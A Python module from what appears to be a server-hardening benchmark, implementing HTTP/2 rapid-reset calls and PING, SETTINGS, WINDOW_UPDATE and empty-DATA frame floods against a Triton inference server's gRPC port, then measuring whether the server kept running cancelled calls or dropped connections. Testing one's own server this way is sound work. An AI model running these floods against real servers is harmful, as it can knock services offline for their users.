"""Calls reset by their client, and floods of frames that ask for nothing but an answer."""

from __future__ import annotations

import json
import socket
import time
import urllib.request
from collections.abc import Callable
from typing import Any

from ray_triton_shm._private.bench.attacks import wire
from ray_triton_shm._private.bench.attacks.catalog import Attack, count, hold
from ray_triton_shm._private.bench.attacks.wire import Target

RESET_CALLS = 1000
FLOOD_FRAMES = 200_000


def inference_count(stats_url: str, model: str) -> int:
    """The calls Triton ran of ``model`` (``inference_count`` of its statistics, every version)."""
    with urllib.request.urlopen(f"http://{stats_url}/v2/models/{model}/stats", timeout=30) as answer:
        stats = json.load(answer)
    return sum(int(m.get("inference_count", 0)) for m in stats.get("model_stats", []))


def _drain(s: socket.socket) -> bool:
    """Read what is waiting without blocking; False once the server has closed ``s``."""
    return not wire.closed_by_peer(s)


def grpc_reset_calls(target: Target, until: float, scale: float) -> dict[str, Any]:
    """1000 ``add_sub`` calls over 4 connections, each reset (RST_STREAM CANCEL) right after its message;
    counts the calls the server ran anyway (Triton's ``inference_count`` of ``add_sub``)."""
    framed = wire.grpc_framed(wire.add_sub_message())
    block = wire.request_block(wire.INFER_PATH)
    before = inference_count(target.stats_url, "add_sub")
    calls = count(RESET_CALLS, scale)
    sockets: list[socket.socket] = []
    sent = 0
    try:
        for _ in range(4):
            s = wire.connect(target.host, target.grpc_port)
            sockets.append(s)
            wire.send_quietly(s, wire.H2_PREFACE + wire.settings())
        open_ = list(sockets)
        stream = 1
        while sent < calls and open_ and time.monotonic() < until:
            for s in list(open_):
                call = (
                    wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block)
                    + wire.frame(wire.DATA, wire.END_STREAM, stream, framed)
                    + wire.frame(wire.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                )
                if not wire.send_quietly(s, call) or not _drain(s):
                    open_.remove(s)
                    continue
                sent += 1
            stream += 2
        time.sleep(2.0)  # what still runs, ends
        ran = inference_count(target.stats_url, "add_sub") - before
        hold(until)
        return {"calls reset": sent, "ran": ran, "connections closed by server": len(sockets) - len(open_)}
    finally:
        wire.close_all(sockets)


def _flood(target: Target, until: float, scale: float, opening: bytes, one: bytes) -> dict[str, Any]:
    """``opening``, then ``one`` frame over and over (1000 a write) on one connection that reads nothing."""
    frames = count(FLOOD_FRAMES, scale)
    batch = one * 1000
    s = wire.connect(target.host, target.grpc_port, rcvbuf=65536)
    sent, stopped, closed = 0, False, False
    try:
        wire.send_quietly(s, wire.H2_PREFACE + wire.settings() + opening)
        s.settimeout(1.0)
        while sent < frames and time.monotonic() < until:
            try:
                s.sendall(batch)
            except TimeoutError:  # the server reads no more from us: back pressure
                stopped = True
                break
            except OSError:
                closed = True
                break
            sent += 1000
        hold(until)
        closed = closed or wire.closed_by_peer(s)
        return {"frames sent": sent, "server stopped reading": stopped, "closed by server": closed}
    finally:
        s.close()


def _flooder(opening: Callable[[], bytes], one: bytes) -> Callable[[Target, float, float], dict[str, Any]]:
    def run(target: Target, until: float, scale: float) -> dict[str, Any]:
        return _flood(target, until, scale, opening(), one)

    return run


ping_flood = _flooder(bytes, wire.frame(wire.PING, 0, 0, b"\x00" * 8))
settings_flood = _flooder(bytes, wire.frame(wire.SETTINGS, 0, 0))
window_update_flood = _flooder(bytes, wire.frame(wire.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))
empty_data_flood = _flooder(
    lambda: wire.frame(wire.HEADERS, wire.END_HEADERS, 1, wire.request_block(wire.INFER_PATH)),
    wire.frame(wire.DATA, 0, 1),
)

ATTACKS = (
    Attack(
        name="grpc-reset-calls",
        kind="reset/floods",
        protocol="grpc",
        run=grpc_reset_calls,
        summary="1000 add_sub calls reset right after their message",
    ),
    Attack(
        name="h2-ping-flood",
        kind="reset/floods",
        protocol="grpc",
        run=ping_flood,
        summary="200,000 PING frames, answers never read",
    ),
    Attack(
        name="h2-settings-flood",
        kind="reset/floods",
        protocol="grpc",
        run=settings_flood,
        summary="200,000 empty SETTINGS frames, answers never read",
    ),
    Attack(
        name="h2-empty-data-flood",
        kind="reset/floods",
        protocol="grpc",
        run=empty_data_flood,
        summary="200,000 empty DATA frames on an open call",
    ),
    Attack(
        name="h2-window-update-flood",
        kind="reset/floods",
        protocol="grpc",
        run=window_update_flood,
        summary="200,000 WINDOW_UPDATE frames of 1 byte",
    ),
)
